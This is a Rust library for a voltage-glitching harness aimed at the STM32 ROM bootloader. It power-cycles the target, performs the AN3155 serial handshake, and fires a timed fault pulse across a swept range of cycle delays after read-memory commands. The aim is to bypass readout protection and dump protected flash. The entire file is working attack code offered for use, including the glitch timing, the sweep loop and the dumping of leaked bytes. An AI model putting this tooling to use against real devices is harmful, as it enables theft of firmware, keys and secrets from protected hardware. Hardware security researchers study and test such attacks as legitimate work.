//! STM32 UART bootloader glitching harness.
//!
//! Drives a target's supply rail, speaks the AN3155 serial protocol to the
//! ROM bootloader, and fires a fault pulse at a swept cycle offset after the
//! read-memory command, trying to slip a read past an active readout
//! protection.

use core::marker::PhantomData;

#[macro_use]
extern crate log;

#[macro_use(block)]
extern crate nb;

extern crate embedded_hal;
use embedded_hal::blocking::delay::DelayMs;
use embedded_hal::serial::{Read, Write};

use thiserror::Error;

#[cfg(feature = "linux")]
extern crate linux_embedded_hal;

#[cfg(feature = "linux")]
pub mod linux;

pub mod protocol;

use crate::protocol::{dump_lines, Command, Frame, MAX_CHUNK, UART_ACK, UART_DISC, UART_NACK};

/// Switch for the target's supply rail. Implementations are expected to be
/// plain register writes: bounded time, no failure mode, callable from
/// recovery paths.
pub trait PowerRail {
    fn set_supply(&mut self, on: bool);
}

/// The platform's fault hardware: a fixed-width pulse generator and the
/// cycle counter read alongside it.
pub trait FaultSource {
    /// Fire the pulse. Fixed duration, fire and forget.
    fn fire(&mut self);

    /// Free-running cycle counter. Wraps; only deltas are meaningful.
    fn now(&mut self) -> u32;
}

/// Scoped preemption mask. `with` must hold all interrupts masked for the
/// whole closure and restore them on every exit path.
pub trait InterruptMask {
    fn with<T>(&mut self, f: impl FnOnce() -> T) -> T;
}

#[derive(Copy, Clone, PartialEq, Debug)]
pub enum State {
    /// Rail off, or target in an unknown state after a dead link
    Unpowered,
    /// Powered and discovery byte sent, first ACK still outstanding
    Handshaking,
    /// Bootloader acknowledged, command mode
    Ready,
}

#[derive(Clone, PartialEq, Debug, Error)]
pub enum Error<SerialError> {
    /// Transport-level fault
    #[error("serial error: {0:?}")]
    Serial(SerialError),

    /// Explicit NACK from the bootloader
    #[error("bootloader NACK")]
    Nack,

    /// A response byte that is neither ACK nor NACK
    #[error("unexpected response byte 0x{0:02x}")]
    InvalidResponse(u8),

    /// No response byte before the timeout
    #[error("response timeout")]
    ResponseTimeout,

    /// Memory read returned nothing at all
    #[error("no data from target")]
    NoData,
}

impl<SerialError> From<SerialError> for Error<SerialError> {
    fn from(e: SerialError) -> Self {
        Self::Serial(e)
    }
}

#[derive(Clone, PartialEq, Debug)]
#[cfg_attr(feature = "structopt", derive(structopt::StructOpt))]
pub struct Options {
    /// Settle time after toggling target power
    #[cfg_attr(feature = "structopt", structopt(long, default_value = "10"))]
    pub settle_ms: u32,

    /// Timeout to wait for an ACK/NACK byte
    #[cfg_attr(feature = "structopt", structopt(long, default_value = "10"))]
    pub ack_timeout_ms: u32,

    /// Timeout for the bulk memory read
    #[cfg_attr(feature = "structopt", structopt(long, default_value = "50"))]
    pub read_timeout_ms: u32,

    /// Period to poll for received bytes
    #[cfg_attr(feature = "structopt", structopt(long, default_value = "1"))]
    pub poll_delay_ms: u32,

    /// First busy-wait delay of the sweep, in controller cycles
    #[cfg_attr(feature = "structopt", structopt(long, default_value = "30"))]
    pub delay_min: u32,

    /// Last busy-wait delay of the sweep, inclusive
    #[cfg_attr(feature = "structopt", structopt(long, default_value = "80"))]
    pub delay_max: u32,

    /// Flash address to read out
    #[cfg_attr(
        feature = "structopt",
        structopt(long, parse(try_from_str = parse_hex_u32), default_value = "0x08000000")
    )]
    pub read_address: u32,

    /// Read length as the bootloader counts it (bytes minus one)
    #[cfg_attr(feature = "structopt", structopt(long, default_value = "4"))]
    pub read_length: u8,
}

impl Default for Options {
    fn default() -> Self {
        Self {
            settle_ms: 10,
            ack_timeout_ms: 10,
            read_timeout_ms: 50,
            poll_delay_ms: 1,
            delay_min: 30,
            delay_max: 80,
            read_address: 0x0800_0000,
            read_length: 4,
        }
    }
}

#[cfg(feature = "structopt")]
fn parse_hex_u32(s: &str) -> Result<u32, core::num::ParseIntError> {
    match s.strip_prefix("0x") {
        Some(hex) => u32::from_str_radix(hex, 16),
        None => s.parse(),
    }
}

/// A delay value that produced protected bytes.
#[derive(Copy, Clone, PartialEq, Debug)]
pub struct SweepHit {
    pub delay_cycles: u32,
    pub len: usize,
}

/// The glitching engine: bootloader protocol plus the timed fault pulse,
/// generic over the serial link and the platform capabilities.
pub struct Glitcher<P, D, R, F, M, E> {
    state: State,
    options: Options,
    port: P,
    delay: D,
    rail: R,
    fault: F,
    mask: M,
    _err: PhantomData<E>,
}

impl<P, D, R, F, M, E> Glitcher<P, D, R, F, M, E>
where
    P: Write<u8, Error = E> + Read<u8, Error = E>,
    D: DelayMs<u32>,
    R: PowerRail,
    F: FaultSource,
    M: InterruptMask,
    E: core::fmt::Debug,
{
    /// Create a new glitcher instance over the given capabilities
    pub fn new(port: P, delay: D, rail: R, fault: F, mask: M, options: Options) -> Self {
        Self {
            state: State::Unpowered,
            options,
            port,
            delay,
            rail,
            fault,
            mask,
            _err: PhantomData,
        }
    }

    /// Fetch the target link state
    pub fn state(&self) -> State {
        self.state
    }

    pub fn options(&self) -> &Options {
        &self.options
    }

    /// Deconstruct into the owned capabilities
    pub fn release(self) -> (P, D, R, F, M) {
        (self.port, self.delay, self.rail, self.fault, self.mask)
    }

    /// Power cycle the target and redo the serial handshake. This is both
    /// bring-up and the universal recovery action after a silent link.
    pub fn power_cycle(&mut self) -> Result<(), Error<E>> {
        debug!("Power cycling target");

        self.state = State::Unpowered;
        self.rail.set_supply(false);
        self.delay.delay_ms(self.options.settle_ms);
        self.rail.set_supply(true);
        self.delay.delay_ms(self.options.settle_ms);

        block!(self.port.write(UART_DISC))?;
        block!(self.port.flush())?;
        self.state = State::Handshaking;

        // Checked inline rather than via await_ack: recovery must not
        // recurse into another power cycle while already handshaking.
        match self.read_byte(self.options.ack_timeout_ms)? {
            Some(UART_ACK) => {
                debug!("Handshake: ACK");
                self.state = State::Ready;
                Ok(())
            }
            Some(b) => {
                debug!("Handshake: unexpected byte 0x{:02x}", b);
                self.state = State::Unpowered;
                Err(if b == UART_NACK {
                    Error::Nack
                } else {
                    Error::InvalidResponse(b)
                })
            }
            None => {
                warn!("Handshake: no response");
                self.state = State::Unpowered;
                Err(Error::ResponseTimeout)
            }
        }
    }

    /// Read a single ACK/NACK byte. A silent link forces exactly one power
    /// cycle before the timeout is reported; a wrong-but-present byte does
    /// not resynchronize the link.
    pub fn await_ack(&mut self, context: &str) -> Result<(), Error<E>> {
        match self.read_byte(self.options.ack_timeout_ms)? {
            Some(UART_ACK) => {
                debug!("{}: ACK", context);
                Ok(())
            }
            Some(UART_NACK) => {
                debug!("{}: NACK", context);
                Err(Error::Nack)
            }
            Some(b) => {
                debug!("{}: unexpected byte 0x{:02x}", context, b);
                Err(Error::InvalidResponse(b))
            }
            None => {
                warn!("{}: no response, power cycling target", context);
                if let Err(e) = self.power_cycle() {
                    debug!("Recovery handshake failed: {:?}", e);
                }
                Err(Error::ResponseTimeout)
            }
        }
    }

    /// Transmit a frame and fire the fault pulse `delay_cycles` busy-wait
    /// iterations after the transmitter drains, all under the interrupt
    /// mask. Any preemption between transmit and pulse desynchronizes the
    /// fault from the target's command processing, so the mask spans the
    /// whole sequence.
    ///
    /// Returns the measured cycle delta between the two counter reads.
    /// Logging and calibration only; the pulse has already fired.
    pub fn send_and_glitch(&mut self, frame: &Frame, delay_cycles: u32) -> Result<u32, Error<E>> {
        let Self {
            port, fault, mask, ..
        } = self;

        mask.with(|| {
            for b in frame.bytes() {
                block!(port.write(*b)).map_err(Error::Serial)?;
            }
            // Drain before arming the delay: the offset is measured from
            // the last stop bit, not from queueing the bytes.
            block!(port.flush()).map_err(Error::Serial)?;

            let start = fault.now();
            for _ in 0..delay_cycles {
                core::hint::black_box(0u32);
            }
            let end = fault.now();

            fault.fire();

            Ok(end.wrapping_sub(start))
        })
    }

    /// One protected-read attempt at the given delay: glitched read-memory
    /// command, plain address frame, glitched length frame, then whatever
    /// the bootloader leaks into `buf`.
    pub fn read_protected(&mut self, delay_cycles: u32, buf: &mut [u8]) -> Result<usize, Error<E>> {
        let command = Frame::command(Command::ReadMemory);
        let cycles = self.send_and_glitch(&command, delay_cycles)?;
        debug!(
            "Delay {}: pulse fired after {} measured cycles",
            delay_cycles, cycles
        );
        self.await_ack("Read Mem")?;

        let address = Frame::address(self.options.read_address);
        self.write_frame(&address)?;
        self.await_ack("Sent mem address")?;

        let length = Frame::new(&[self.options.read_length]);
        self.send_and_glitch(&length, delay_cycles)?;
        self.await_ack("Sent mem length")?;

        let limit = buf.len().min(MAX_CHUNK);
        let n = self.read_into(&mut buf[..limit], self.options.read_timeout_ms)?;
        if n == 0 {
            warn!("No memory bytes received");
            return Err(Error::NoData);
        }

        // A short read still counts: any leaked byte means the gate fell
        info!("Received {} memory bytes:", n);
        for line in dump_lines(&buf[..n]) {
            info!("{}", line);
        }

        Ok(n)
    }

    /// Walk the delay range in increasing order until an attempt leaks
    /// memory. Attempt-level failures stay local to their delay value; the
    /// first nonzero read ends the sweep.
    pub fn sweep(&mut self, buf: &mut [u8]) -> Option<SweepHit> {
        for delay_cycles in self.options.delay_min..=self.options.delay_max {
            if self.state != State::Ready {
                if let Err(e) = self.power_cycle() {
                    debug!("Delay {}: target not recovered: {:?}", delay_cycles, e);
                    continue;
                }
            }

            match self.read_protected(delay_cycles, buf) {
                Ok(len) => {
                    info!("Glitch landed at delay {} ({} bytes)", delay_cycles, len);
                    return Some(SweepHit { delay_cycles, len });
                }
                Err(e) => debug!("Delay {}: attempt failed: {:?}", delay_cycles, e),
            }
        }

        info!("Sweep exhausted with no readout");
        None
    }

    /// Bring the target up and run the full sweep.
    pub fn run(&mut self, buf: &mut [u8]) -> Option<SweepHit> {
        if let Err(e) = self.power_cycle() {
            warn!("Initial handshake failed: {:?}", e);
        }
        self.sweep(buf)
    }

    fn write_frame(&mut self, frame: &Frame) -> Result<(), Error<E>> {
        for b in frame.bytes() {
            block!(self.port.write(*b))?;
        }
        block!(self.port.flush())?;
        Ok(())
    }

    /// Poll for one byte, giving up after `timeout_ms`.
    fn read_byte(&mut self, timeout_ms: u32) -> Result<Option<u8>, Error<E>> {
        let mut t = 0;

        loop {
            match self.port.read() {
                Ok(v) => return Ok(Some(v)),
                Err(nb::Error::WouldBlock) => (),
                Err(nb::Error::Other(e)) => return Err(Error::Serial(e)),
            }

            self.delay.delay_ms(self.options.poll_delay_ms);
            t += self.options.poll_delay_ms;

            if t > timeout_ms {
                return Ok(None);
            }
        }
    }

    /// Read up to `buf.len()` bytes, stopping at the first quiet period of
    /// `timeout_ms`. Returns the count actually received.
    fn read_into(&mut self, buf: &mut [u8], timeout_ms: u32) -> Result<usize, Error<E>> {
        let mut n = 0;

        while n < buf.len() {
            match self.read_byte(timeout_ms)? {
                Some(b) => {
                    buf[n] = b;
                    n += 1;
                }
                None => break,
            }
        }

        Ok(n)
    }
}
